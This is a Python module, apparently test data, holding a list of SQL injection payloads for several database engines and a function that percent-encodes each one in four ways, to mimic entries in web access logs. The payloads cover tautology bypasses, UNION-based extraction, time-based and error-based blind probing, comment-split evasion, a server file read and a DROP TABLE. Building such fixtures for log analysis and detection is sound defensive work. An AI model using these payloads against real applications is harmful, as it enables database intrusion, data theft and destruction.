"""What an attacker writes into a parameter: injection tries as they stand in real access logs.

Plain, percent-encoded, doubly encoded, cut up by comments, timed and stacked, for several
database makers. They are text in log lines and reach no database.
"""

from typing import TYPE_CHECKING
from urllib.parse import quote

if TYPE_CHECKING:
    from collections.abc import Callable

_PLAIN = (
    "1' OR '1'='1",
    "1' OR 1=1-- -",
    "admin'--",
    "1) OR (1=1",
    "-1' UNION SELECT NULL,NULL,NULL-- -",
    "-1' UNION SELECT 1,table_name,3 FROM information_schema.tables-- -",
    "-1' UNION ALL SELECT CONCAT(0x7171,user(),0x7171),2,3#",
    "1 AND SLEEP(5)",
    "1' AND (SELECT 7714 FROM (SELECT(SLEEP(5)))abc)-- x",
    "1;SELECT pg_sleep(5)--",
    "1'; WAITFOR DELAY '0:0:5'--",
    "1' AND extractvalue(1,concat(0x7e,version()))-- -",
    "1' AND updatexml(1,concat(0x7e,database()),1)-- -",
    "1' AND 1=CAST((SELECT current_database()) AS int)--",
    "1'/**/UnIoN/**/SeLeCt/**/1,2,user()--",
    "1'||(SELECT banner FROM v$version WHERE ROWNUM=1)||'",
    "1' ORDER BY 12-- -",
    "1' GROUP BY 1,2 HAVING 1=1--",
    "1;DROP TABLE tmp_probe--",
    "1' AND ASCII(SUBSTRING((SELECT database()),1,1))>77-- -",
    "(SELECT (CASE WHEN (4211=4211) THEN 1 ELSE (SELECT 2 UNION SELECT 3) END))",
    "1' AND ORD(MID((SELECT IFNULL(CAST(COUNT(*) AS CHAR),0x20)),1,1))>48-- -",
    "1%bf%27 OR 1=1-- -",
    "' AND 1=0 UNION SELECT load_file('/etc/hostname')-- -",
    "1' PROCEDURE ANALYSE(EXTRACTVALUE(4242,CONCAT(0x5c,0x71)),1)-- -",
    "1' RLIKE (SELECT (CASE WHEN (77=77) THEN 1 ELSE 0x28 END))-- -",
)


def injections() -> list[str]:
    """Return the payloads percent-encoded, in the several ways that tools encode them."""
    ways: tuple[Callable[[str], str], ...] = (
        lambda text: quote(text, safe=""),
        lambda text: quote(text, safe="()*,").replace("%20", "+"),
        lambda text: quote(quote(text, safe=""), safe=""),
        lambda text: quote(text, safe="").replace("%20", "%09"),
    )
    return [way(text) for way in ways for text in _PLAIN]
